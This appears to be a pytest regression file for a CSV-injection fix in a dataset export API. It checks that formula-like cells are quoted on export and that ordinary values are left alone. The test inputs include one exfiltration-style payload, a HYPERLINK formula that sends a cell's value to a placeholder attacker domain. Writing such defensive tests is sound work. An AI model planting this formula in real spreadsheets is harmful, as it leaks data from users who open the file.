"""CSV injection: a dataset cell like "=HYPERLINK(...)" ran as a formula in the
spreadsheet that opened the export. Every exported text cell that starts like a
formula (=, +, -, @, tab, CR) now starts with a single quote instead."""

import csv
import io
import json

import pytest
from rest_framework.test import APIClient

from core.csvexport import formula_safe

pytestmark = [pytest.mark.django_db, pytest.mark.any_profile]

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+2", "-2+3", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1"]


def _export(client, rows):
    dataset = client.post("/api/datasets/", {"name": "cells"}, format="json").json()
    text = "".join(json.dumps(row) + "\n" for row in rows)
    imported = client.post(f"/api/datasets/{dataset['id']}/import", {"text": text, "format": "jsonl"},
                           format="json")
    assert imported.status_code == 201, imported.content
    version = imported.json()["version"]
    response = client.get(f"/api/datasets/{dataset['id']}/versions/{version['id']}/export?as=csv")
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))


def test_every_formula_cell_of_a_dataset_export_starts_with_a_quote(user):
    client = APIClient()
    client.force_login(user)
    rows = [{"variables": {"q": formula, "n": 7}, "expected": formula, "metadata": {"k": "v"}}
            for formula in FORMULAS]
    rows.append({"variables": {"q": "plain text", "n": -4}, "expected": "a-b", "metadata": {}})
    header, *lines = _export(client, rows)
    assert sorted(header) == ["expected", "metadata", "n", "q"]
    cells = [dict(zip(header, line, strict=True)) for line in lines]
    assert len(cells) == len(rows)
    for formula, row in zip(FORMULAS, cells, strict=False):
        assert row["q"] == row["expected"] == "'" + formula
        assert row["n"] == "7" and json.loads(row["metadata"]) == {"k": "v"}
    # Numbers and ordinary text are left alone.
    assert cells[-1] == {"q": "plain text", "n": "-4", "expected": "a-b", "metadata": ""}


@pytest.mark.parametrize("cell", FORMULAS)
def test_the_helper_quotes_each_formula_start(cell):
    assert formula_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["", "abc", "a=b", "'=1", 12, -3.5, None])
def test_the_helper_leaves_other_cells_alone(cell):
    assert formula_safe(cell) == cell
